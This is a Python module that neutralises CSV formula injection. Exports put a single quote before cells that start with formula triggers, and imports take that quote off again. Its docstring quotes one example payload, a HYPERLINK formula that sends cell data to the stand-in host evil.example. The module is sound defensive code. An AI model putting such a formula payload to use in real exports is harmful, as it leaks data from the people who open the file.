"""CSV cells that a spreadsheet would run as a formula, made inert on the way out and restored
on the way back in.

Excel, LibreOffice and Google Sheets read a cell that begins with `=`, `+`, `-` or `@` as a
formula (and a leading tab or carriage return can hide one): a pupil named
`=HYPERLINK("http://evil.example/?x="&A1,"click")` would run when a school opens its export.
OWASP's advice is to prefix such a cell with a single quote, which the spreadsheet shows as
text. So exports write `'` before any text cell that begins with one of those characters, and
imports take exactly that one quote off again, so an export re-imports unchanged.

To make the round trip exact, a value that already begins with quotes followed by one of
those characters (`'=x`) gets one more quote too: the rule is "add one quote to any value
that, after its leading quotes, begins with a trigger", and its inverse is "remove one quote
from any value that begins with a quote and, after its leading quotes, a trigger". NDJSON is
never changed: it is read by programs, not spreadsheets.
"""

#: what makes a spreadsheet read a cell as a formula (OWASP CSV injection)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"
_FIRST = frozenset((*TRIGGERS, _QUOTE))


def _armed(value: str) -> bool:
    return value.lstrip(_QUOTE).startswith(TRIGGERS)


def neutralised(value: str) -> str:
    """The cell as an export writes it: one quote more if a spreadsheet could run it."""
    if value and value[0] in _FIRST and _armed(value):
        return _QUOTE + value
    return value


def restored(value: str) -> str:
    """The cell as an import reads it: the quote `neutralised` added, taken off."""
    if value.startswith(_QUOTE) and _armed(value):
        return value[1:]
    return value
